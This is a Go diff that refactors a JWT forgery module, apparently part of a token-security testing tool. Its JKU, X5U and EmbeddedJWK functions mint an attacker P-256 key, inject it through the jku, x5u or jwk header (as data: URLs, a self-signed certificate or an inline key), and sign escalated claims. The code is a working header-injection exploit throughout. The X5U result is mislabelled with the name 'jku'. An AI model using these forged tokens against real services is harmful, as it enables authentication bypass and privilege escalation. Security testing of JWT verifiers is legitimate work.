@@ -120,24 +120,48 @@ func dataURL(mediaType string, content []byte) string {
 	return "data:" + mediaType + ";base64," + base64.StdEncoding.EncodeToString(content)
 }
 
-// JKU signs with the attacker's key and names the attacker's JWK Set in
-// jku (RFC 7515 §4.1.2), as a data: URL so that it travels in the token.
-func JKU(token string, rand io.Reader) (Attack, error) {
+// withAttackerKey makes the attacker's own P-256 key, lets place put
+// where to find it into the header, as the one named member of jku, x5u
+// and jwk, and signs the escalated claims with it.
+func withAttackerKey(token string, rand io.Reader, member string, place func(k *keys.Key) (any, error)) (string, error) {
 	v, err := decode(token)
 	if err != nil {
-		return Attack{}, err
+		return "", err
 	}
 	k, err := attackerKey(rand)
 	if err != nil {
-		return Attack{}, err
+		return "", err
 	}
+	where, err := place(k)
+	if err != nil {
+		return "", err
+	}
+	changes := map[string]any{"kid": k.Kid, "jku": nil, "x5u": nil, "jwk": nil}
+	changes[member] = where
+	return signES256(v.headerWith(changes), v.escalated(), k)
+}
+
+// publicJWK is k's public half as a JWK object.
+func publicJWK(k *keys.Key) (map[string]any, error) {
 	j, err := keys.MarshalJWK(k, false)
 	if err != nil {
-		return Attack{}, err
+		return nil, err
 	}
-	set := []byte(`{"keys":[` + string(j) + `]}`)
-	h := v.headerWith(map[string]any{"kid": k.Kid, "jku": dataURL("application/jwk-set+json", set), "x5u": nil, "jwk": nil})
-	tok, err := signES256(h, v.escalated(), k)
+	var jwk map[string]any
+	return jwk, json.Unmarshal(j, &jwk)
+}
+
+// JKU signs with the attacker's key and names the attacker's JWK Set in
+// jku (RFC 7515 §4.1.2), as a data: URL so that it travels in the token.
+func JKU(token string, rand io.Reader) (Attack, error) {
+	tok, err := withAttackerKey(token, rand, "jku", func(k *keys.Key) (any, error) {
+		jwk, err := publicJWK(k)
+		if err != nil {
+			return nil, err
+		}
+		set, err := json.Marshal(map[string]any{"keys": []any{jwk}})
+		return dataURL("application/jwk-set+json", set), err
+	})
 	return Attack{Name: "jku", Label: "jku → attacker's key set", Token: tok,
 		How: "A new P-256 key made, its JWK Set put at jku, and the token signed with it."}, err
 }
@@ -145,24 +169,16 @@ func JKU(token string, rand io.Reader) (Attack, error) {
 // X5U signs with the attacker's key and names a self-signed certificate
 // for it in x5u (RFC 7515 §4.1.5), as a data: URL.
 func X5U(token string, rand io.Reader, now time.Time) (Attack, error) {
-	v, err := decode(token)
-	if err != nil {
-		return Attack{}, err
-	}
-	k, err := attackerKey(rand)
-	if err != nil {
-		return Attack{}, err
-	}
-	priv := k.Private.(*ecdsa.PrivateKey)
-	tmpl := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "attacker"},
-		NotBefore: now.Add(-time.Hour), NotAfter: now.Add(24 * time.Hour)}
-	der, err := x509.CreateCertificate(rand, tmpl, tmpl, &priv.PublicKey, priv)
-	if err != nil {
-		return Attack{}, fmt.Errorf("attack: certificate: %w", err)
-	}
-	cert := pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der})
-	h := v.headerWith(map[string]any{"kid": k.Kid, "x5u": dataURL("application/pem-certificate-chain", cert), "jku": nil, "jwk": nil})
-	tok, err := signES256(h, v.escalated(), k)
+	tok, err := withAttackerKey(token, rand, "x5u", func(k *keys.Key) (any, error) {
+		priv := k.Private.(*ecdsa.PrivateKey)
+		tmpl := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "attacker"},
+			NotBefore: now.Add(-time.Hour), NotAfter: now.Add(24 * time.Hour)}
+		der, err := x509.CreateCertificate(rand, tmpl, tmpl, &priv.PublicKey, priv)
+		if err != nil {
+			return nil, fmt.Errorf("attack: certificate: %w", err)
+		}
+		return dataURL("application/pem-certificate-chain", pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der})), nil
+	})
 	return Attack{Name: "jku", Label: "x5u → attacker's certificate", Token: tok,
 		How: "A new P-256 key and a self-signed certificate for it made, the certificate put at x5u, and the token signed with the key."}, err
 }
@@ -170,23 +186,7 @@ func X5U(token string, rand io.Reader, now time.Time) (Attack, error) {
 // EmbeddedJWK signs with the attacker's key and carries its public half
 // in the jwk header parameter (RFC 7515 §4.1.3).
 func EmbeddedJWK(token string, rand io.Reader) (Attack, error) {
-	v, err := decode(token)
-	if err != nil {
-		return Attack{}, err
-	}
-	k, err := attackerKey(rand)
-	if err != nil {
-		return Attack{}, err
-	}
-	j, err := keys.MarshalJWK(k, false)
-	if err != nil {
-		return Attack{}, err
-	}
-	var jwk map[string]any
-	if err := json.Unmarshal(j, &jwk); err != nil {
-		return Attack{}, err
-	}
-	tok, err := signES256(v.headerWith(map[string]any{"kid": k.Kid, "jwk": jwk, "jku": nil, "x5u": nil}), v.escalated(), k)
+	tok, err := withAttackerKey(token, rand, "jwk", func(k *keys.Key) (any, error) { return publicJWK(k) })
 	return Attack{Name: "jwk", Label: "jwk header key", Token: tok,
 		How: "A new P-256 key made, its public JWK put in the header's jwk, and the token signed with it."}, err
 }
